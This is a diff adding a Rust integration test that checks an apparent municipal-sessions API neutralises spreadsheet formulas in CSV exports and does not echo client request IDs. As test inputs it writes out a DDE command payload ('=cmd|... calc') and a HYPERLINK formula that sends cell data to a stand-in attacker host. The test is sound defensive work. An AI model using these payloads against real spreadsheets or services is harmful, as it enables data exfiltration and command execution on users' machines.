@@ -315,3 +315,65 @@ async fn request_headers_never_reach_a_link_unchecked() {
         .contains(r#"href="https://api.example.org/en/""#));
     assert!(!reply.text().contains("evil.example"));
 }
+
+/// Exports are spreadsheet-safe (issue 31, item 4): text a spreadsheet would
+/// run as a formula is neutralised in CSV, and a client's X-Request-Id is
+/// stored only in a strict form.
+#[tokio::test]
+async fn csv_exports_do_not_carry_formulas_and_request_ids_are_strict() {
+    let app = TestApp::new().await;
+    let key = app.key(Some("1980")).await;
+    let admin = app.key(None).await;
+    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+    let mut body = session_json("=cmd|' /C calc'!A0", "2025-03-01");
+    body["provider"] = serde_json::json!(formula);
+    body["area"] = serde_json::json!("-2+3");
+    let uri = "/v1/municipalities/1980/sessions/%3Dcmd%7C'%20%2FC%20calc'!A0";
+    let reply = app
+        .request_with_body(
+            Method::PUT,
+            uri,
+            &[
+                ("Authorization", &format!("Bearer {key}")),
+                ("Content-Type", "application/json"),
+                ("X-Request-Id", "=cmd|'/C calc'!A0"),
+            ],
+            body.to_string().into(),
+        )
+        .await;
+    assert_eq!(reply.status.as_u16(), 201, "{}", reply.text());
+    assert_ne!(
+        reply.header("x-request-id"),
+        Some("=cmd|'/C calc'!A0"),
+        "replaced, not echoed"
+    );
+
+    let csv = app
+        .get("/v1/sessions?municipality=1980&format=csv")
+        .await
+        .text();
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let row = reader.records().next().unwrap().unwrap();
+    let cell = |name: &str| row[headers.iter().position(|h| h == name).unwrap()].to_owned();
+    assert_eq!(cell("provider"), format!("'{formula}"));
+    assert_eq!(cell("external_id"), "'=cmd|' /C calc'!A0");
+    assert_eq!(cell("area"), "'-2+3");
+    // Numbers stay numbers.
+    assert_eq!(cell("enrolled"), "12");
+    // The JSON is the data as written.
+    let json = app.get("/v1/sessions?municipality=1980").await.ok_json();
+    assert_eq!(json["data"][0]["provider"], formula);
+
+    let audit = app.audit(Some(&admin), "format=csv", &[]).await.text();
+    assert!(
+        !audit.contains("=cmd|'/C calc'!A0,") && !audit.contains(",=cmd"),
+        "{audit}"
+    );
+    assert!(
+        !audit
+            .lines()
+            .any(|l| l.split(',').any(|f| f.starts_with('='))),
+        "{audit}"
+    );
+}
